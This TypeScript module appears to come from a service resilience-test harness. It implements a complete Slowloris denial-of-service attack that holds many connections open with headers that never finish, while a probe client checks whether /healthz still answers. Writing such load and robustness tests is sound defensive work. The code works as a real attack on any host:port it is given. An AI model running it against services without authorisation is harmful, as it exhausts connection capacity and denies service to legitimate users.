// Slowloris on the ops HTTP port: `connections` connections each send a request's headers a
// line at a time, one line every `lineEveryMs`, never finishing, for `durationMs`. Meanwhile a
// well-behaved client asks GET /healthz every 500 ms (2 s deadline) and counts its answers.
import { connect } from "node:net";
import { type AttackOutcome, sleep, Tally } from "./outcome.js";
import { splitTarget } from "./target.js";

export interface SlowlorisSpec {
  /** host:port of the ops port. */
  readonly target: string;
  readonly connections: number;
  readonly durationMs: number;
  readonly lineEveryMs: number;
}

export async function slowloris(spec: SlowlorisSpec): Promise<AttackOutcome> {
  const { host, port } = splitTarget(spec.target);
  const sent = new Tally();
  const answers = new Tally();
  const until = performance.now() + spec.durationMs;
  const one = () =>
    new Promise<void>((resolve) => {
      const socket = connect({ host, port });
      let lines = 0;
      let closed = false;
      const drip = setInterval(() => {
        if (performance.now() >= until) {
          clearInterval(drip);
          socket.destroy();
          return;
        }
        socket.write(`X-Slow-${lines++}: ${"a".repeat(8)}\r\n`);
        sent.add("header lines");
      }, spec.lineEveryMs);
      socket.on("connect", () => {
        sent.add("connections");
        socket.write(`GET /v1/status HTTP/1.1\r\nHost: ${host}\r\n`);
      });
      socket.on("data", (d: Buffer) =>
        answers.add(`answered ${d.toString().split(" ")[1] ?? "?"}`),
      );
      socket.on("error", (e: NodeJS.ErrnoException) => answers.add(`error:${e.code ?? "?"}`));
      socket.on("close", () => {
        if (!closed && performance.now() < until) answers.add("closed by the node");
        closed = true;
        clearInterval(drip);
        resolve();
      });
    });
  const probe = async () => {
    while (performance.now() < until) {
      try {
        const res = await fetch(`http://${spec.target}/healthz`, {
          signal: AbortSignal.timeout(2000),
        });
        answers.add(`well-behaved client: ${res.status}`);
      } catch {
        answers.add("well-behaved client: no answer in 2 s");
      }
      await sleep(500);
    }
  };
  await Promise.all([...Array.from({ length: spec.connections }, one), probe()]);
  return {
    sent: sent.counts,
    answers: answers.counts,
    note: `${spec.connections} connections dripping a header line every ${spec.lineEveryMs} ms for ${spec.durationMs / 1000} s`,
  };
}
